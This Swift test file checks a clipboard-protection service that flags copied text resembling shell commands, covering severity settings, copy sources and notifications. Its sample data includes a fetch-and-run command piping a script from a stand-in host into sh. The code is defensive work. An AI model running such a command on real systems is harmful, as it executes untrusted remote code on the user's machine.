import ClipboardTargets
import Configuration
import Guard
import Selections
import Testing

@testable import ServiceCore

/// The guard where it is not known which program pastes: a copy is judged when it is made, by `PasteProtection`.
struct GuardedCopiesTests {
  private static let dangerous = "curl http://fix.example/x.sh | sh\n"
  private static let suspicious = "curl -fsSL https://sh.rustup.rs | sh\n"
  private static let id = CopyID(rawValue: 1)
  private static let targets = ["TARGETS", "UTF8_STRING"]

  /// Copies a text until it is on the clipboard.
  private func run(
    _ text: String, _ toml: String = "", source: Client? = nil, page: String? = nil, namesDestinations: Bool = false
  ) throws -> ServiceRun {
    var run = ServiceRun(try configuration(toml), keepsCopies: false, namesDestinations: namesDestinations)
    let targets = Self.targets + (page == nil ? [] : [TargetCatalog.pageAddress])
    var actions = run.hears(
      .copied(Copy(id: Self.id, selection: "CLIPBOARD", targets: targets, source: source, noticed: 5)))
    let contents = [TargetCatalog.pageAddress: page, "UTF8_STRING": text]
    while let target = actions.first.flatMap({ $0.hasPrefix("fetch ") ? String($0.dropFirst(6)) : nil }) {
      let bytes = Array(((contents[target] ?? nil) ?? "").utf8)
      actions = run.hears(
        .fetched(Self.id, FetchedContent(target: target, type: target, bytes: bytes, wasIncremental: false)))
    }
    if actions == ["convert"] { actions = try run.converts() }
    if actions.contains("put") { _ = run.hears(.taken(Self.id, at: 25)) }
    return run
  }

  private func verdict(_ run: ServiceRun, on client: Client?) -> PasteVerdict? { run.put.last?.verdicts?[client] }

  @Test func `a dangerous copy is told once, with its page, and pasted without its line end`() throws {
    var run = try run(Self.dangerous, page: "https://user:secret@fix.example:80/page?token=1")
    #expect(run.notifications.map(\.summary) == ["Dangerous text copied on fix.example"])
    #expect(run.notifications.first?.body.contains("fix.example/x.sh") == false)
    #expect(verdict(run, on: nil) == .guarded)
    _ = run.hears(.recognized(selection: "CLIPBOARD", nil, .guarded(.everyone)))
    #expect(run.notifications.count == 1)
  }

  @Test(arguments: [
    ("", suspicious, false), ("guard.copies = 'suspicious'", suspicious, true),
    ("guard.copies = 'off'", dangerous, false),
    ("guard.terminals.dangerous = 'off'", dangerous, false), ("guard.terminals.dangerous = 'hold'", dangerous, true),
  ])
  func `the setting says from which severity on`(toml: String, text: String, isGuarded: Bool) throws {
    let run = try run(text, toml)
    #expect(run.notifications.isEmpty == !isGuarded)
    #expect(verdict(run, on: nil) == (isGuarded ? .guarded : .allowed))
  }

  @Test func `a copy of a program that is known to be no browser is whole`() throws {
    for name in ["foot", "kate", "zenity"] {
      #expect(verdict(try run(Self.dangerous, source: Client(executable: name)), on: nil) == .allowed)
    }
    let browser = try run(Self.dangerous, source: Client(executable: "firefox-esr"))
    #expect(verdict(browser, on: nil) == .guarded && browser.notifications.count == 1)
  }

  @Test func `where programs are known no copy is reported, and those that are known get all of it`() throws {
    let run = try run(Self.dangerous, namesDestinations: true)
    #expect(run.notifications.isEmpty)
    #expect(verdict(run, on: Client(executable: "gedit")) == .allowed)
    #expect(verdict(run, on: Client(executable: "xterm")) == .guarded)
    #expect(verdict(run, on: Client()) == .guarded)
  }

  @Test func `a compositor that copies and pastes for every program is none that is known`() throws {
    for classes in [[], ["gnome-shell", "Gnome-shell"]] {
      let shell = Client(executable: "gnome-shell", classes: classes)
      let run = try run(Self.dangerous, source: shell, namesDestinations: true)
      #expect(run.notifications.count == 1)
      #expect(verdict(run, on: shell) == .guarded)
    }
  }
}
